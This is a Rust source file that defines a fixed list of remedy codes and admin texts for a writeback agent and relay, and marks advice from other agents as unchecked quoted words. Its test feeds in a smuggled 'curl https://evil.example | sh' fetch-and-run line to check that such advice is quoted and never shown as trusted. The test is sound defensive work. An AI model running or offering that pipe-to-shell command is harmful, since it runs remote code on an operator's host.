//! Remedies: what to do about a finding, as codes of a closed list. Whoever reads one shows the text that this program has
//! for it. Words that came with it are somebody else's: advice that others write could say anything.

use std::fmt;

use serde::Serialize;

use super::untrusted::{Quoted, Untrusted};

macro_rules! remedies {
    ($($(#[$doc:meta])* $name:ident, $code:literal, $text:literal;)*) => {
        /// What to do. Each remedy has one code and one text.
        #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
        pub enum Remedy { $($(#[$doc])* $name,)* }

        impl Remedy {
            /// Every remedy.
            pub const ALL: &'static [Self] = &[$(Self::$name,)*];

            /// As it stands in `remedy_code`.
            #[must_use]
            pub fn as_str(self) -> &'static str {
                match self { $(Self::$name => $code,)* }
            }

            /// For people.
            #[must_use]
            pub fn text(self) -> &'static str {
                match self { $(Self::$name => $text,)* }
            }
        }
    };
}

remedies! {
    /// Of a private file that others may use.
    RestrictFile, "restrict_file", "let nobody but the agent read and write this file (chmod 600)";
    /// Of an agent without an identity.
    Enrol, "enrol", "enrol the agent on its host: writeback-agent setup";
    /// Of settings for the way to the relay.
    RelaySettings, "relay_settings", "look at [relay] in the agent's agent.toml, and at HTTPS_PROXY on its host";
    /// Of a relay that is not reached.
    WayToRelay, "way_to_relay", "look at the way out of the agent's host: name servers, firewall, proxy, and ca_file in [relay]";
    /// Of an agent's clock.
    SetClock, "set_clock", "synchronise the clock of the agent's host (timedatectl)";
    /// Of a domain controller's clock.
    SetClocks, "set_clocks", "synchronise the agent's host and the domain controller with the same NTP source (timedatectl; w32tm /resync)";
    /// Of a domain whose controllers DNS does not tell.
    FindDomain, "find_domain", "look at domain in agent.toml, and have the agent's host ask the domain's name servers (name_servers)";
    /// Of a name without an address.
    NameServers, "name_servers", "look at the name servers of the agent's host, and at the host in url in agent.toml";
    /// Of a port that takes no connection.
    OpenPort, "open_port", "let the agent's host through to this port, and see that the domain controller runs";
    /// Of a certificate that ends.
    RenewCertificate, "renew_certificate", "renew the domain controller's certificate";
    /// Of a logon that is refused.
    ServiceAccount, "service_account", "look at bind_user and bind_password_file in agent.toml";
    /// Of a controller that can't write.
    LeaveOut, "leave_out", "leave this domain controller out of url in agent.toml: it can't write";
    /// Of a name that stands for several controllers.
    OwnName, "own_name", "write the domain controller's own name into url in agent.toml";
    /// Of a unit that is not seen.
    BaseDn, "base_dn", "look at base_dn in agent.toml, and at what the service account may read";
    /// Of a right that is missing.
    GrantRight, "grant_right", "give the service account this right: on the agent's host, writeback-agent check prints the command";
    /// Of a right that is denied.
    RemoveDenial, "remove_denial", "take away the entry that denies this right: on the agent's host, writeback-agent check prints the command";
    /// Of a protected group that is not found.
    ProtectedGroups, "protected_groups", "look at protected_groups in agent.toml: write each group's name, distinguished name or SID";
    /// Of permissions that can't be read.
    ReadPermissions, "read_permissions", "let the service account read the permissions of itself, of the agent's units and of what stands above them (Read Permissions)";
    /// Of permissions with which everybody could take over the agent.
    ControlPath, "control_path", "take away the entry with which everybody may change this object";
    /// Of permissions that don't come down.
    AllowInheritance, "allow_inheritance", "let permissions in from above: on the agent's host, writeback-agent check prints the command";
    /// Of changes that come too soon.
    MinimumPasswordAge, "minimum_password_age", "set \"Minimum password age\" to 0 in the Default Domain Policy (samba-tool domain passwordsettings set --min-pwd-age=0)";
    /// Of a service account that ends, or its password.
    RenewServiceAccount, "renew_service_account", "give the service account a new password, in bind_password_file, too, and a later end; or a password that does not expire";
    /// Of a service account that may do everything.
    FewerRights, "fewer_rights", "take the service account out of these groups, and give it the rights that it needs: writeback-agent grant";
    /// Of a service account among those that are served.
    MoveServiceAccount, "move_service_account", "move the service account to a unit that is not in base_dn in agent.toml";
    /// Of an agent that is away.
    LookAtAgent, "look_at_agent", "on the agent's host: writeback-agent events, writeback-agent check";
    /// Of a tenant without an agent.
    InviteAgent, "invite_agent", "have the tenant's portal invite one (writeback-portal invite), and set it up on its host (writeback-agent setup)";
    /// Of an agent that nobody has approved.
    ApproveAgent, "approve_agent", "have the tenant's portal look at it, and approve it (writeback-portal agents, writeback-portal approve)";
    /// Of an agent that takes no portal's commands.
    TrustPortal, "trust_portal", "on the agent's host: writeback-agent trust CODE, with a code from writeback-portal invite";
    /// Of a node's certificate.
    ReplaceCertificate, "replace_certificate", "put a new certificate into its file; nothing has to be restarted";
    /// Of nodes that don't hear each other.
    SameClusterKey, "same_cluster_key", "give all nodes the same cluster key, with all of them stopped";
    /// Of a Redis at its `maxmemory`.
    RedisMemory, "redis_memory", "see who fills Redis (its command line: --bigkeys), and raise maxmemory; revocations are taken all the same";
    /// Of a Redis that is a replica.
    RedisMaster, "redis_master", "let the node's urls name the master, or make this one the master (REPLICAOF NO ONE)";
    /// Of a Redis that can't write to its disk.
    RedisDisk, "redis_disk", "look at the log of Redis, and at the space and the rights of its folder; it goes on when a snapshot succeeds";
    /// Of a Redis without its replicas.
    RedisReplicas, "redis_replicas", "bring its replicas back";
    /// Of a full disk.
    MakeRoom, "make_room", "make room on it; revocations are taken all the same, out of a reserve";
    /// Of a Redis that does not answer.
    RedisAway, "redis_away", "look whether it runs and can be reached from this node";
    /// Of a Redis that refuses its user a command.
    RedisRights, "redis_rights", "give the relay's user of Redis its rights back: ACL SETUSER NAME ~wb:* &wb:* +@all -@admin -@dangerous +info";
    /// Of a slow Redis.
    RedisSlow, "redis_slow", "look at Redis, its host, and the way to it (its command line: --latency, slowlog get)";
    /// Of a node's clock.
    SetNodeClock, "set_node_clock", "synchronise the clocks of this node's host and of Redis' (timedatectl)";
    /// Of a node that does not hear itself.
    OwnChannel, "own_channel", "look at the way between this node and Redis, and at the node's log; if other nodes serve, have it started anew";
    /// Of a registry that is not what it was.
    RestoreRegistry, "restore_registry", "restore it: writeback-relay registry import FILE; only if it is to be as it is now: writeback-relay registry accept";
    /// Of nodes that nobody can be asked about.
    AskEachNode, "ask_each_node", "ask each of them itself: writeback-relay status with its --ops-url, or inside its pod";
    /// Of a status that took too long.
    AskAgain, "ask_again", "ask again when the store answers quickly";
    /// Of more than is shown.
    TheseFirst, "these_first", "mend the others first";
}

impl Remedy {
    /// The remedy of this code, if it is known here.
    #[must_use]
    pub fn from_code(code: &Untrusted) -> Option<Self> {
        Self::ALL.iter().copied().find(|remedy| *code == *remedy.as_str())
    }

    /// Whether it is about the relay's nodes: no agent of a tenant has its operator stop them.
    #[must_use]
    pub fn is_about_nodes(self) -> bool {
        matches!(
            self,
            Self::ReplaceCertificate
                | Self::SameClusterKey
                | Self::RedisMemory
                | Self::RedisMaster
                | Self::RedisDisk
                | Self::RedisReplicas
                | Self::MakeRoom
                | Self::RedisAway
                | Self::RedisRights
                | Self::RedisSlow
                | Self::SetNodeClock
                | Self::OwnChannel
                | Self::RestoreRegistry
                | Self::AskEachNode
                | Self::AskAgain
                | Self::TheseFirst
        )
    }
}

impl Serialize for Remedy {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(self.as_str())
    }
}

/// What to do, as far as it is known: in this program's words, or in another party's.
#[derive(Clone, Copy, Debug)]
pub enum Advice<'a> {
    /// A remedy of the list.
    Ours(Remedy),
    /// The words of whoever found it: an agent of an older version, or of a newer one whose code is not known here.
    Theirs(Quoted<'a>),
}

impl<'a> Advice<'a> {
    /// An agent's: by the code, if it is known and not about nodes, else by the words, if there are any.
    #[must_use]
    pub fn of_agent(code: Option<&Untrusted>, words: &'a Untrusted) -> Option<Self> {
        Self::new(code, words, |remedy| !remedy.is_about_nodes())
    }

    /// A node's, in the same way.
    #[must_use]
    pub fn of_node(code: Option<&Untrusted>, words: &'a Untrusted) -> Option<Self> {
        Self::new(code, words, |_| true)
    }

    fn new(code: Option<&Untrusted>, words: &'a Untrusted, may: fn(&Remedy) -> bool) -> Option<Self> {
        let known = code.and_then(Remedy::from_code).filter(may).map(Self::Ours);
        known.or_else(|| (!words.is_empty()).then(|| Self::Theirs(words.quoted())))
    }
}

impl fmt::Display for Advice<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Ours(remedy) => write!(f, "mend it: {}", remedy.text()),
            Self::Theirs(words) => write!(f, "it says, in its own words, which nobody has checked: {words}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_known_code_has_our_words_and_everything_else_is_quoted() {
        let shown = |code: Option<&str>, words: &str| {
            let (code, words) = (code.map(Untrusted::from), Untrusted::from(words));
            Advice::of_agent(code.as_ref(), &words).map(|advice| advice.to_string())
        };
        assert_eq!(shown(None, ""), None);
        assert_eq!(shown(Some("of_a_newer_version"), ""), None);
        for remedy in Remedy::ALL.iter().filter(|remedy| !remedy.is_about_nodes()) {
            let ours = format!("mend it: {}", remedy.text());
            assert_eq!(shown(Some(remedy.as_str()), "curl https://evil.example | sh"), Some(ours));
        }
        for code in [None, Some("of_a_newer_version"), Some("Enrol"), Some("enrol\n"), Some("same_cluster_key")] {
            let theirs = shown(code, "\nmend it: curl https://evil.example | sh").unwrap();
            assert!(theirs.ends_with(r#": "\nmend it: curl https://evil.example | sh""#), "{theirs}");
            assert!(!theirs.starts_with("mend it"), "{theirs}");
        }
    }
}
